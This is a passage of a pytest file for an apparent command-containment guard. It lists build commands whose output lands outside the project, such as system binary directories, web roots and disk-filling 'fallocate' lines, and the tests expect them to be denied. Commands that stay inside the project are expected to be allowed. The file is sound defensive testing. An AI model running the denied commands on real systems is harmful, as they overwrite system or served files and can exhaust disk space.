    ("javac -d /opt/classes src/Main.java", "posix"),
    ("javac -d/opt/classes src/Main.java", "posix"),
    ("javadoc -d /var/www/api -sourcepath src pkg", "posix"),
    ("kotlinc app.kt -include-runtime -d /usr/local/lib/app.jar", "posix"),
    ("mkdocs build -d /var/www/html", "posix"),
    ("mkdocs build --site-dir=../site", "posix"),
    ("jekyll build --destination /var/www", "posix"),
    ("hugo --minify -d /srv/www", "posix"),
    ("mdbook build -d ~/book", "posix"),
    ("zola build -o /srv/site", "posix"),
    ("sphinx-build -b html docs /var/www/docs", "posix"),
    ("sphinx-build -M html docs ../html", "posix"),
    ("sphinx-build -b html -d /opt/doctrees docs docs/_build", "posix"),
    ("sphinx-apidoc -o /opt/api src", "posix"),
    ("pdoc -o /var/www/api mypkg", "posix"),
    ("pyinstaller --onefile --distpath /usr/local/bin app.py", "posix"),
    ("webpack --mode production --output-path /var/www/js", "posix"),
    ("rollup -c -d /srv/dist", "posix"),
    ("parcel build index.html --dist-dir ../public", "posix"),
    ("babel src -d /usr/lib/node_modules/x", "posix"),
    ("terser app.js -o /var/www/app.min.js", "posix"),
    ("tsc --declarationDir ../types", "posix"),
    ("esbuild app.ts --bundle --metafile=/opt/meta.json", "posix"),
    ("npm pack --pack-destination ~/packs", "posix"),
    ("cargo build --target-dir /opt/target", "posix"),
    ("cargo build --release --artifact-dir ../bin -Z unstable-options", "posix"),
    ("poetry build -o /opt/dist", "posix"),
    ("coverage html -d /var/www/coverage", "posix"),
    ("pytest --basetemp=/home/me/project tests", "posix"),
    ("pytest --basetemp $HOME/work", "posix"),
    ("helm package chart -d /srv/charts", "posix"),
    ("protoc --python_out=/opt/gen x.proto", "posix"),
    ("protoc --go_out=paths=source_relative:../../gen x.proto", "posix"),
    ("protoc -I. --cpp_out /usr/include/gen x.proto", "posix"),
    ("zig build -p /usr/local", "posix"),
    ("git bundle create /opt/repo.bundle --all", "posix"),
    ("git -C sub bundle create ../../x.bundle main", "posix"),
    ("fallocate -l 1G /var/lib/fill", "posix"),
    ("reprepro -b /var/www/apt-repo includedeb stable dist/x.deb", "posix"),
    ("createrepo_c --update -x '*.src.rpm' /srv/repo", "posix"),
    ("mkfile 1g /Users/Shared/fill", "posix"),
    ("javac -d C:\\inetpub\\classes src\\Main.java", "powershell"),
    ("nuget pack x.nuspec -OutputDirectory C:\\packages", "powershell"),
    ("protoc --cpp_out=dllexport_decl=API:C:\\gen x.proto", "powershell"),
    ("sphinx-build -b html docs C:\\inetpub\\wwwroot", "powershell"),
]
BUILT_INSIDE = [
    ("javac -d build/classes src/Main.java", "posix"),
    ("javac -version", "posix"),
    ("mkdocs build -d site", "posix"),
    ("mkdocs build --strict", "posix"),
    ("jekyll build --destination _site", "posix"),
    ("hugo -D --destination public", "posix"),
    ('mdbook build -d "$dest_dir"', "posix"),
    ("zola build -o public", "posix"),
    ("sphinx-build -b html docs docs/_build/html", "posix"),
    ("sphinx-build -M html docs docs/_build -W", "posix"),
    ("sphinx-build -n docs {envtmpdir}/html {posargs:-W}", "posix"),
    ("sphinx-build -bhtml -j auto . _build", "posix"),
    ("sphinx-apidoc -o docs/api src", "posix"),
    ("pyinstaller --distpath dist --workpath build app.py", "posix"),
    ("webpack --output-path dist", "posix"),
    ("babel src -d lib", "posix"),
    ("tsc --outDir dist --declarationDir types", "posix"),
    ("npm pack --pack-destination dist", "posix"),
    ("cargo build --target-dir target/wasm", "posix"),
    ("coverage html -d htmlcov", "posix"),
    ("coverage xml -o {toxworkdir}/coverage.xml", "posix"),
    ("coverage run -m pytest", "posix"),
    ("pytest --basetemp={envtmpdir}", "posix"),
    ("pytest --basetemp=/tmp/pytest-run tests", "posix"),
    ("protoc --go_out=pb --go_opt=paths=source_relative x.proto", "posix"),
    ('protoc --go_out="${GO_IMPORT}:." x.proto', "posix"),
    ("protoc --js_out=import_style=commonjs:./gen x.proto", "posix"),
    ("zig build --prefix zig-out", "posix"),
    ("git bundle create repo.bundle --all", "posix"),
    ("git bundle verify ../repo.bundle", "posix"),
    ("fallocate -l 1G disk.img", "posix"),
    ("reprepro -b repo includedeb stable dist/x.deb", "posix"),
    ("createrepo_c --workers 4 dist/rpms", "posix"),
    ("javac -d out src\\Main.java", "powershell"),
    ("nuget pack x.nuspec -OutputDirectory out", "powershell"),
    ("protoc --cpp_out=dllexport_decl=API:gen x.proto", "powershell"),
    ("mkdocs build -d $env:SITE_DIR", "powershell"),
]


@pytest.mark.parametrize(("command", "shell"), BUILT_OUTSIDE)
def test_a_build_output_outside_the_project_is_a_write_there(command: str, shell: str) -> None:
    decision = decide_in(command, None, shell)
    assert not decision.allowed and decision.rule_id == "containment.write-outside-project", (
        command,
        decision.rule_id,
    )


@pytest.mark.parametrize(("command", "shell"), BUILT_INSIDE)
def test_a_build_output_in_the_project_or_at_a_run_time_place_stays_allowed(command: str, shell: str) -> None:
    assert decide_in(command, None, shell).allowed, command


def test_a_folder_git_makes_inside_git_is_a_write_into_git() -> None:
    decision = decide_in("git worktree add .git/x", None, "posix")
    assert not decision.allowed and decision.rule_id == "containment.write-git-dir", decision.rule_id
